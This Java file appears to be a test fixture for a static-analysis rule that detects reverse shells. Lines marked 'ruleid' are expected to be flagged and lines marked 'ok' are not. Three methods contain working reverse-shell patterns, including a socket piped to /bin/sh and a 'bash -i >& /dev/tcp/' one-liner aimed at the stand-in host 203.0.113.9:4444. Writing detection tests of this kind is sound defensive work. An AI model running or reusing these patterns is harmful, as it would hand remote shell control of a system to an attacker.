import java.net.Socket;

class Remote {
    void callHome() throws Exception {
        Socket socket = new Socket("203.0.113.9", 4444);
        // ruleid: java-reverse-shell
        Process process = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
        socket.getInputStream().transferTo(process.getOutputStream());
    }

    void first() throws Exception {
        // ruleid: java-reverse-shell
        Process process = Runtime.getRuntime().exec("/bin/bash");
        Socket socket = new Socket("203.0.113.9", 4444);
    }

    void line() throws Exception {
        // ruleid: java-reverse-shell
        Runtime.getRuntime().exec(
            new String[] {"bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"});
    }

    void local() throws Exception {
        // ok: java-reverse-shell
        new ProcessBuilder("/bin/sh", "build.sh").start();
        // ok: java-reverse-shell
        new ProcessBuilder("git", "status").start();
        // ok: java-reverse-shell
        Runtime.getRuntime().exec("nc -z localhost 5432");
    }
}
